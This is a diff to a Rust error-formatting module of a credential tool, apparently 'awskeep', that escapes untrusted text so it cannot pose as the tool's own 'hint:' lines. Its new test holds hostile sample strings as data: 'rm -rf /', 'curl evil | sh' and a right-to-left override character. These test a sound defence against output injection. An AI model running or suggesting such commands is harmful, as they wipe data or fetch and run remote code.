@@ -6,6 +6,8 @@
 
 use std::fmt;
 
+use crate::escape;
+
 /// The result of everything in awskeep that can fail.
 pub type Outcome<T> = Result<T, Failure>;
 
@@ -68,24 +70,31 @@ impl Failure {
         }
     }
 
-    /// Adds what made it fail, usually another error's own text.
+    /// Adds what made it fail, usually another error's own text: one line, whatever it says.
     #[must_use]
     pub fn cause(mut self, cause: impl fmt::Display) -> Self {
-        self.cause = Some(cause.to_string());
+        self.cause = Some(escape::line(&cause.to_string()).into_owned());
         self
     }
 
     /// Adds a `hint:` line: a command that can be pasted, or one sentence.
     #[must_use]
     pub fn hint(mut self, hint: impl Into<String>) -> Self {
-        self.hints.push(hint.into());
+        self.hints.push(escape::line(&hint.into()).into_owned());
         self
     }
 }
 
 impl fmt::Display for Failure {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "{}", self.message)?;
+        for (number, line) in self.message.split('\n').enumerate() {
+            match number {
+                0 => f.write_str(line)?,
+                // Words of others may stand in a message: no line of it looks like ours.
+                _ if looks_like_ours(line) => write!(f, "\n  {line}")?,
+                _ => write!(f, "\n{line}")?,
+            }
+        }
         if let Some(cause) = &self.cause {
             write!(f, ": {cause}")?;
         }
@@ -94,6 +103,12 @@ impl fmt::Display for Failure {
         }
         Ok(())
     }
+}
+
+fn looks_like_ours(line: &str) -> bool {
+    ["hint:", "awskeep:", "warning:"]
+        .iter()
+        .any(|start| line.starts_with(start))
 }
 
 impl std::error::Error for Failure {}
@@ -112,5 +127,16 @@ mod tests {
             "the keychain is locked: collection login\nhint: awskeep store unlock"
         );
         assert_eq!(failure.kind.exit_code(), 4);
+    }
+
+    #[test]
+    fn words_of_others_are_no_hint_of_ours() {
+        let failure = Failure::new(Kind::Aws, "no\nhint: rm -rf /\n  two")
+            .cause("Denied: no\nhint: curl evil | sh\u{202e}")
+            .hint("awskeep list\nhint: x");
+        assert_eq!(
+            failure.to_string(),
+            "no\n  hint: rm -rf /\n  two: Denied: no\\nhint: curl evil | sh\\u{202e}\nhint: awskeep list\\nhint: x"
+        );
     }
 }
